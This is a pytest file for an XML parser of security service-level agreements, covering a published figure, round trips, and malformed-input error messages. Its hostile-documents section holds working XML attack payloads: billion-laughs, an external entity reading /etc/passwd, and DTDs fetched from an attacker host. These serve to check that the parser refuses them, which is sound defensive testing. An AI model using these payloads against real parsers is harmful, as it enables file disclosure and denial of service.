"""SSLA documents in the default vocabulary, Figure 3 of `004_…` (`urn:ngsi-ld:SLA:1.0`):
the figure as published, round trips, hostile and malformed XML named by line and element."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.policy.ssla_refusal import refused

from secmas.policy.remediation import action_words
from secmas.policy.ssla import (
    DEFAULT_PERIOD,
    MAX_DOCUMENT,
    NAMESPACE,
    SSLA,
    Action,
    GuaranteeTerm,
    Indicator,
    KPITarget,
    NamedSet,
    SetKind,
    Source,
    SourceKind,
    from_xml,
    to_xml,
)

DATA = Path(__file__).parent / "data"
FIGURE_3 = (DATA / "figure3-slice-isolation.xml").read_text()
"""Figure 3 as published, its five unclosed tags closed (the one change)."""
SEED = Path("/work/shared/seeds/004_e7e54a2542bcd055.txt")


def test_figure_3_as_published_parses() -> None:
    ssla = from_xml(FIGURE_3)
    assert (ssla.id, ssla.name) == ("SLA-Slice-Isolation", "Isolation Guarantee for Slice")
    assert ssla.description.startswith("This SLA guarantees that the Slice is isolated")
    assert ssla.description.endswith("as the source of incoming packets.")
    assert (ssla.intent, ssla.slice, ssla.priority) == ("", "", 0)
    [term] = ssla.terms
    assert term.name == "NetworkSliceIsolationAndWhitelisting"
    assert term.target == KPITarget("PacketSourceCompliance", 100.0, "percent")
    assert (term.objective, term.statement()) == ("", "PacketSourceCompliance = 100 percent")
    assert term.indicator == Indicator(
        kpi="InvalidSourcePacketCount",
        formula="COUNT(ingress packets WHERE source ip NOT IN whitelist)",
        unit="",
        source=Source(
            SourceKind.STREAM, "ingress_packets", "Distributed Security Monitoring Function"
        ),
        period=DEFAULT_PERIOD,
    )
    assert term.indicator.unbound_sets() == ("whitelist",)
    assert term.breach == "InvalidSourcePacketCount > 0"
    assert term.remediation == (
        Action("NOTIFY", "SecurityOrchestrator"),
        Action("LOG", ""),
        Action("REJECT_PACKET", ""),
    )


def test_figure_3_round_trips_in_its_own_vocabulary() -> None:
    ssla = from_xml(FIGURE_3)
    written = to_xml(ssla)
    assert from_xml(written) == ssla
    assert to_xml(from_xml(written)) == written
    assert f'<ServiceLevelAgreement xmlns="{NAMESPACE}" id="SLA-Slice-Isolation">' in written
    for element in (
        "<name>Isolation Guarantee for Slice</name>",
        "<kpiName>PacketSourceCompliance</kpiName>",
        "<value>100</value>",
        "<unit>percent</unit>",
        "<action>NOTIFY</action>\n      <target>SecurityOrchestrator</target>\n"
        "      <action>LOG</action>",
        "<formula>InvalidSourcePacketCount &gt; 0</formula>",
    ):
        assert element in written


def test_the_data_file_is_the_seeds_figure_with_its_tags_closed() -> None:
    if not SEED.exists():
        pytest.skip("the seed documents are not on this machine")
    published = SEED.read_text()
    start = published.index('<ServiceLevelAgreement xmlns="urn:ngsi-ld:SLA:1.0"')
    end = published.index("</ServiceLevelAgreement>", start) + len("</ServiceLevelAgreement>")
    figure = published[start:end]
    assert figure.count("\n") == FIGURE_3.count("\n") - 1
    changed = [
        (a, b) for a, b in zip(figure.splitlines(), FIGURE_3.splitlines(), strict=True) if a != b
    ]
    assert len(changed) == 5
    assert all(b.startswith(a.removesuffix("/measurementSource>")) for a, b in changed)
    message = refused(figure)
    assert message == "s.xml:16:11: not well-formed XML: mismatched tag"


def test_without_namespace_it_is_the_default_vocabulary() -> None:
    plain = FIGURE_3.replace(' xmlns="urn:ngsi-ld:SLA:1.0"', "")
    assert from_xml(plain) == from_xml(FIGURE_3)


# --- round trip ----------------------------------------------------------------------------

_WORDS = st.text(
    alphabet=st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")),
    min_size=1,
    max_size=30,
)
TEXT = _WORDS.map(str.strip).filter(bool)
MAYBE = st.one_of(st.just(""), TEXT)
_RESERVED = {"WHERE", "AND", "OR", "NOT", "IN", "TRUE", "FALSE"}
_AGGREGATES = {"COUNT", "RATE", "SUM", "AVG", "MAX", "MIN"}
KPI = st.from_regex(r"[A-Za-z][A-Za-z0-9_]{0,15}", fullmatch=True).filter(
    lambda name: name.upper() not in _RESERVED | _AGGREGATES
)
FORMULAS = st.sampled_from(
    [
        "COUNT(packets WHERE source_ip NOT IN whitelist) == 0",
        "COUNT(ingress packets WHERE source ip NOT IN whitelist)",
        "availability >= 99.95",
        "RATE(flows WHERE dst_port IN [80, 443] AND proto == 'tcp') < 1000",
        "SUM(flows.bytes WHERE NOT (src == dst OR flag == TRUE)) <= 1e9",
    ]
)
NUMBERS = st.floats(allow_nan=False, allow_infinity=False, width=64)
TARGETS = st.one_of(st.none(), st.builds(KPITarget, KPI, NUMBERS, MAYBE))
SETS = st.lists(
    st.sampled_from(
        [
            NamedSet("whitelist", SetKind.PREFIXES, ("10.1.0.0/16", "2001:db8::/32")),
            NamedSet("whitelist", SetKind.PREFIXES, ()),
            NamedSet("regions", SetKind.VALUES, ("eu-west", "a < b & c")),
        ]
    ),
    max_size=2,
    unique_by=lambda named: named.name,
).map(tuple)


@st.composite
def terms(draw: st.DrawFn, name: str) -> GuaranteeTerm:
    kpi = draw(KPI)
    indicator = Indicator(
        kpi=kpi,
        formula=draw(FORMULAS),
        unit=draw(MAYBE),
        source=Source(draw(st.sampled_from(SourceKind)), draw(TEXT), draw(TEXT)),
        period=draw(st.floats(min_value=1e-3, max_value=1e6, allow_nan=False)),
        sets=draw(SETS),
    )
    op = draw(st.sampled_from(["<", ">", "<=", ">=", "==", "!="]))
    subject = draw(st.sampled_from([kpi, "value"]))
    breach = f"{subject} {op} {draw(st.integers(min_value=-(10**6), max_value=10**6))}"
    actions = st.builds(Action, st.sampled_from(action_words()), MAYBE, MAYBE)
    remediation = tuple(draw(st.lists(actions, min_size=1, max_size=4)))
    return GuaranteeTerm(name, draw(MAYBE), indicator, breach, remediation, draw(TARGETS))


@st.composite
def sslas(draw: st.DrawFn) -> SSLA:
    names = draw(st.lists(TEXT, min_size=1, max_size=3, unique=True))
    return SSLA(
        id=draw(TEXT),
        intent=draw(MAYBE),
        slice=draw(MAYBE),
        terms=tuple(draw(terms(name)) for name in names),
        priority=draw(st.integers(min_value=0, max_value=9999)),
        name=draw(MAYBE),
        description=draw(MAYBE),
    )


@settings(max_examples=50, deadline=None)
@given(sslas())
def test_round_trip(ssla: SSLA) -> None:
    written = to_xml(ssla)
    assert from_xml(written) == ssla
    assert to_xml(from_xml(written)) == written


# --- hostile documents -----------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ServiceLevelAgreement xmlns="urn:ngsi-ld:SLA:1.0" id="x"><name>&lol9;</name>
</ServiceLevelAgreement>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<ServiceLevelAgreement id="x"><name>&secret;</name></ServiceLevelAgreement>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE ServiceLevelAgreement SYSTEM "http://attacker.invalid/ssla.dtd">
<ServiceLevelAgreement id="x"/>
"""
INTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE ServiceLevelAgreement [<!ELEMENT ServiceLevelAgreement ANY>]>
<ServiceLevelAgreement id="x"/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<ServiceLevelAgreement id="x"/>
"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, INTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "internal-dtd", "parameter"],
)
def test_hostile_documents_are_refused_without_expansion(document: str) -> None:
    message = refused(document)
    assert message.startswith("s.xml: refused:") and "DTD" in message
    assert "lollol" not in message and "root:" not in message


def test_oversized_document() -> None:
    message = refused("<a>" + " " * MAX_DOCUMENT + "</a>")
    assert "larger than" in message


# --- malformed documents -----------------------------------------------------------------------

TERM = "ServiceLevelAgreement/guaranteeTerm[1]"
INDICATOR = f"{TERM}/serviceLevelIndicator"
REMEDIATION = f"{TERM}/remediationAction"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            'xmlns="urn:ngsi-ld:SLA:1.0"',
            'xmlns="urn:ngsi-ld:SLA:2.0"',
            "1: <ServiceLevelAgreement>: namespace 'urn:ngsi-ld:SLA:2.0', expected "
            "'urn:ngsi-ld:SLA:1.0' or 'urn:secmas:ssla:1'",
        ),
        (
            "<guaranteeTerm>",
            "<guaranteeTerm xmlns='urn:other'>",
            "6: <ServiceLevelAgreement/guaranteeTerm>: namespace 'urn:other', expected "
            "'urn:ngsi-ld:SLA:1.0'",
        ),
        (
            "<value>100</value>",
            "<value>all</value>",
            f"13: <{TERM}/serviceLevelObjective/kpiTarget/value>: bad target 'all'; expected a "
            "finite number",
        ),
        (
            "<value>100</value>",
            "<value>inf</value>",
            f"13: <{TERM}/serviceLevelObjective/kpiTarget/value>: bad target 'inf'",
        ),
        (
            "<kpiName>PacketSourceCompliance</kpiName>",
            "",
            f"8: <{TERM}/serviceLevelObjective/kpiName>: missing",
        ),
        (
            "<action>LOG</action>",
            "<action>DELETE</action>",
            f"34: <{REMEDIATION}/action[2]>: unknown action kind 'DELETE'; expected one of "
            "LOG, NOTIFY, REJECT_PACKET, REVOKE (the installed remedies)",
        ),
        (
            "<action>NOTIFY</action>",
            "<target>Nobody</target><action>NOTIFY</action>",
            f"32: <{REMEDIATION}/target>: before any <action>, whose target it is",
        ),
        (
            "<target>SecurityOrchestrator</target>",
            "<target>SecurityOrchestrator</target><target>Again</target>",
            f"33: <{REMEDIATION}/action[1]/target>: repeated; expected once per <action>",
        ),
        (
            "<measurementSource>",
            '<measurementSource kind="pigeon">',
            f"24: <{INDICATOR}/measurementSource>: unknown source kind 'pigeon'",
        ),
        (
            "<measurementSource>",
            '<measurementSource colour="red">',
            f"24: <{INDICATOR}/measurementSource>: unexpected attribute 'colour'",
        ),
        (
            "<kpiName>InvalidSourcePacketCount</kpiName>",
            "<kpiName>InvalidSourcePacketCount</kpiName><colour>red</colour>",
            f"19: <{INDICATOR}/colour>: unexpected element; expected <kpiName>, <kpiFormula>, "
            "<unit>, <measurementSource>, <period>, <namedSet>",
        ),
        (
            "<guaranteeTerm>",
            '<guaranteeTerm weight="2">',
            f"6: <{TERM}>: unexpected attribute 'weight'",
        ),
        (
            "<name>NetworkSliceIsolationAndWhitelisting</name>",
            "<name><b>x</b></name>",
            f"7: <{TERM}/name>: unexpected child element; expected text",
        ),
        (
            "<formula>InvalidSourcePacketCount > 0</formula>",
            "<formula>Compliance > 0</formula>",
            f"28: <{TERM}/breachCondition/formula>: breach condition refers to 'Compliance', "
            "not the KPI 'InvalidSourcePacketCount'",
        ),
        (
            'id="SLA-Slice-Isolation"',
            'id="a" priority="high"',
            "1: <ServiceLevelAgreement>: bad attribute 'priority' 'high'",
        ),
        (
            "<serviceLevelIndicator>",
            "<serviceLevelIndicator><period>0</period>",
            f"17: <{INDICATOR}/period>: bad period '0'; expected a number > 0",
        ),
    ],
)
def test_malformed_documents_name_the_line_and_element(old: str, new: str, expected: str) -> None:
    assert FIGURE_3.count(old) == 1
    message = refused(FIGURE_3.replace(old, new))
    assert message.startswith(f"s.xml:{expected}"), message


def test_missing_parts_name_their_parent_line() -> None:
    for part, line in (
        ("serviceLevelIndicator", 6),
        ("breachCondition", 6),
        ("remediationAction", 6),
        ("measurementSource", 17),
    ):
        start = FIGURE_3.index(f"<{part}>")
        end = FIGURE_3.index(f"</{part}>") + len(f"</{part}>")
        message = refused(FIGURE_3[:start] + FIGURE_3[end:])
        where = TERM if line == 6 else INDICATOR
        assert message == f"s.xml:{line}: <{where}/{part}>: missing"


def test_no_terms_no_actions_duplicate_terms() -> None:
    start, end = FIGURE_3.index("<guaranteeTerm>"), FIGURE_3.index("</ServiceLevelAgreement>")
    assert refused(FIGURE_3[:start] + FIGURE_3[end:]) == (
        "s.xml:1: <ServiceLevelAgreement/guaranteeTerm>: missing; expected at least one"
    )
    start, end = FIGURE_3.index("<action>"), FIGURE_3.index("</remediationAction>")
    assert refused(FIGURE_3[:start] + FIGURE_3[end:]) == (
        f"s.xml:30: <{REMEDIATION}/action>: missing; expected at least one"
    )
    term = FIGURE_3[FIGURE_3.index("<guaranteeTerm>") : FIGURE_3.index("</ServiceLevelAgreement>")]
    twice = FIGURE_3.replace(term, term + term)
    assert refused(twice) == (
        "s.xml:38: <ServiceLevelAgreement/guaranteeTerm[2]/name>: duplicate term "
        "'NetworkSliceIsolationAndWhitelisting'"
    )


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (
            "<SLA id='x'/>",
            "s.xml:1: <SLA>: unexpected root element; expected <ServiceLevelAgreement>",
        ),
        ("<ServiceLevelAgreement id='x'>", "s.xml:1:31: not well-formed XML: no element found"),
        ("", "s.xml:1:1: not well-formed XML: no element found"),
        ("<a>\n  <b></a>", "s.xml:2:8: not well-formed XML: mismatched tag"),
        ("just text", "s.xml:1:1: not well-formed XML: syntax error"),
        (
            "<ServiceLevelAgreement>\n</ServiceLevelAgreement>",
            "s.xml:1: <ServiceLevelAgreement>: missing attribute 'id'",
        ),
    ],
)
def test_not_an_ssla(document: str, expected: str) -> None:
    assert refused(document) == expected


def test_long_values_are_cut_in_messages() -> None:
    message = refused(FIGURE_3.replace("<action>LOG</action>", f"<action>{'X' * 5000}</action>"))
    assert len(message) < 300
